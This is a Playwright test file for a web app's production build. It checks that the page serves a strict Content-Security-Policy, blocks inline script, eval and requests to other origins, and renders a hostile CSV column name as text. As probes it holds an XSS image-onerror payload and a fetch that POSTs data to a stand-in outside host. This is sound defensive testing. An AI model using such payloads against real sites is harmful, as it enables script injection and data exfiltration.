// The production build as a visitor gets it: `vite build` into a temporary folder, served
// by `vite preview`, opened in Debian's Chromium. The page must carry its strict
// Content-Security-Policy (as a header and a <meta> tag, no inline script, no eval, no
// connection to another origin until the user adds an edge bundle's), still work under it (the Wasm compiles, a model trains),
// block what the policy forbids, render hostile column names as text, and make no request
// to any other origin. Needs `make wasm`.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { build, preview } from 'vite';
import { chromium } from 'playwright-core';
import { CHROMIUM, root, train } from './harness.mjs';

const XSS = '<img src=x onerror="window.__xss=1">';

let out;
let server;
let browser;
let page;
let base;
const problems = { console: [], foreign: [], dialogs: [], violations: [] };

before(async () => {
  out = mkdtempSync(join(tmpdir(), 'driftlab-dist-'));
  await build({ root, configFile: join(root, 'vite.config.ts'), logLevel: 'warn', build: { outDir: out, emptyOutDir: true } });
  server = await preview({ root, configFile: join(root, 'vite.config.ts'), logLevel: 'warn', build: { outDir: out }, preview: { port: 0, strictPort: false } });
  base = server.resolvedUrls.local[0];
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol !== 'data:' && url.protocol !== 'blob:' && url.hostname !== '127.0.0.1') problems.foreign.push(request.url());
  });
  page = await context.newPage();
  page.setDefaultTimeout(40_000);
  page.on('console', (msg) => {
    if (msg.type() !== 'error') return;
    // the policy's own reports of what this test tries on purpose are counted separately
    if (/Content Security Policy/i.test(msg.text())) problems.violations.push(msg.text());
    else problems.console.push(msg.text());
  });
  page.on('pageerror', (err) => problems.console.push(`pageerror: ${err.message}`));
  page.on('dialog', (dialog) => {
    problems.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});

after(async () => {
  await browser?.close();
  await server?.close();
  if (out) rmSync(out, { recursive: true, force: true });
});

function directives(policy) {
  return Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
}

test('the built page serves a strict policy and works under it', async () => {
  const response = await page.goto(`${base}#dataset=fraud&seed=42&view=model`);
  const header = response.headers()['content-security-policy'];
  assert.ok(header, 'the document response carries the policy as a header');
  const metas = await page.locator('meta[http-equiv="Content-Security-Policy"]').evaluateAll((m) => m.map((x) => x.getAttribute('content')));
  assert.equal(metas.length, 2, 'the upper bound and the exact policy');
  assert.equal(metas[0], header, 'the first <meta> tag and the header are one policy: the upper bound');
  const d = directives(header);
  // the upper bound lets an edge bundle be added later (www/panels/attach.ts); the exact
  // policy that www/public/csp.js writes allows no origin but this one until the user adds one
  assert.deepEqual(d['connect-src'], ["'self'", 'https:', 'http://127.0.0.1:*', 'http://localhost:*']);
  const exact = directives(metas[1]);
  assert.deepEqual(exact['connect-src'], ["'self'"], 'connections only to this origin');
  assert.deepEqual({ ...exact, 'connect-src': null }, { ...d, 'connect-src': null }, 'the rest of the two policies is the same');
  assert.deepEqual(d['script-src'].filter((s) => s === "'unsafe-inline'" || s === "'unsafe-eval'"), [], 'no inline script, no eval');
  assert.deepEqual(d['object-src'], ["'none'"]);

  // Everything works under it: the worker starts, the Wasm compiles, a model trains.
  await page.locator('#model-form').waitFor({ state: 'visible' });
  await train(page);
  assert.match(await page.locator('#metrics tr[data-metric="accuracy"] td.num').innerText(), /^0\.\d+/);
  assert.deepEqual(problems.console, []);
  assert.deepEqual(problems.violations, [], 'the page itself breaks no rule of its policy');
});

test('inline script, eval and other origins are blocked', async () => {
  const blocked = await page.evaluate(async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    // Code that DevTools evaluates may eval; code the page runs later may not, so the
    // attempts run from a timer, as the page's own code would.
    const later = (f) => new Promise((resolve) => setTimeout(() => {
      try {
        resolve(f());
      } catch (e) {
        resolve(e.name);
      }
    }, 0));
    const evalResult = await later(() => eval('1 + 1'));
    const fnResult = await later(() => new Function('return 2')());
    setTimeout('window.__timer = 1', 0);
    let fetched;
    try {
      await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'x' });
      fetched = 'sent';
    } catch (e) {
      fetched = e.name;
    }
    await new Promise((r) => setTimeout(r, 50));
    return { inline: window.__inline ?? null, timer: window.__timer ?? null, evalResult, fnResult, fetched, seen };
  });
  assert.equal(blocked.inline, null, 'the inline script did not run');
  assert.equal(blocked.timer, null, 'a string given to setTimeout did not run');
  assert.equal(blocked.evalResult, 'EvalError');
  assert.equal(blocked.fnResult, 'EvalError');
  assert.equal(blocked.fetched, 'TypeError', 'the request to another origin was refused');
  for (const directive of ['script-src-elem', 'script-src', 'connect-src']) {
    assert.ok(blocked.seen.includes(directive), `a violation of ${directive} was reported: ${blocked.seen}`);
  }
  assert.deepEqual(problems.foreign, [], 'nothing reached another origin');
});

test('a hostile column name is rendered as text', async () => {
  await page.getByRole('button', { name: 'Data' }).click();
  await page.setInputFiles('#csv-file', { name: 'xss.csv', mimeType: 'text/csv', buffer: Buffer.from(`"${XSS.replaceAll('"', '""')}",b\n1,x\n2,y\n3,x\n`) });
  await page.locator('#preview thead th .col-name').filter({ hasText: XSS }).waitFor();
  assert.equal(await page.locator('img').count(), 0, 'no img element was created');
  assert.equal(await page.evaluate(() => window.__xss ?? null), null);
  assert.deepEqual(problems.dialogs, []);
  assert.deepEqual(problems.console, []);
  assert.deepEqual(problems.foreign, []);
});
